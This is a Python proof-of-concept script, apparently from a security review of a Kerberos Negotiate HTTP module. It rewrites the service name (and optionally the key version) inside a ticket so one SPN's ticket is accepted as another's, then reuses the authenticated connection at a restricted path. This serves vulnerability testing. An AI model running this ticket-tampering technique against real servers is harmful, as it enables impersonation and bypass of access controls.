#!/usr/bin/python3
"""Security review 2: a ticket for HTTP/localhost, its clear-text
service name rewritten to HTTP/other.example.test (another account's SPN
whose key is in the same keytab), is accepted at a location that takes any
key of the keytab and recorded as a ticket for HTTP/other.example.test; the
identity is then reused where only HTTP/other.example.test is allowed.

  sname_rewrite.py BASE_URL CCACHE MODE FIRST_PATH SECOND_PATH
MODE: honest (the token as made), heimdal (sname rewritten and the ticket's
kvno set to one the keytab lacks: Heimdal's acceptor then tries every key),
cache (an honest token first, so that the ticket is in the ticket cache;
then a fresh token with only the sname rewritten).
Prints first=STATUS/USER second=STATUS/USER (both on one connection; the
second request carries no Authorization header).
"""
import base64
import http.client
import os
import sys
import urllib.parse

import gssapi

sys.path.insert(0, os.path.dirname(__file__))
from apreq_edit import split_krb5, join_krb5, _ticket, child, _kvno

KRB5 = gssapi.OID.from_int_seq('1.2.840.113554.1.2.2')


def token():
    name = gssapi.Name('HTTP@localhost', gssapi.NameType.hostbased_service)
    return gssapi.SecurityContext(name=name, usage='initiate', mech=KRB5).step()


def rewrite(tok, kvno=None):
    oid, ap = split_krb5(tok)
    names = child(child(child(_ticket(ap), 0xa2), 0x30), 0xa1)
    comps = child(names, 0x30)[1]
    assert comps[1][1] == b'localhost', comps
    comps[1][1] = b'other.example.test'
    if kvno is not None:
        _kvno('ticket', v=kvno)(ap)
    return join_krb5(oid, ap)


def get(conn, path, tok=None):
    h = {}
    if tok is not None:
        h['Authorization'] = 'Negotiate ' + base64.b64encode(tok).decode()
    conn.request('GET', path, headers=h)
    r = conn.getresponse()
    body = r.read().decode(errors='replace')
    user = ''
    for line in body.splitlines():
        if line.startswith('REMOTE_USER='):
            user = line.split('=', 1)[1]
    return '%d/%s' % (r.status, user)


def main():
    base, cc, mode, p1, p2 = sys.argv[1:6]
    os.environ['KRB5CCNAME'] = 'FILE:' + cc
    u = urllib.parse.urlsplit(base)
    if mode == 'cache':
        c0 = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
        print('warmup=%s' % get(c0, p1, token()))
        tok = rewrite(token())
    elif mode == 'heimdal':
        tok = rewrite(token(), kvno=77)
    else:
        tok = token()
    c = http.client.HTTPConnection(u.hostname, u.port, timeout=30)
    print('first=%s' % get(c, p1, tok))
    print('second=%s' % get(c, p2))


if __name__ == '__main__':
    main()
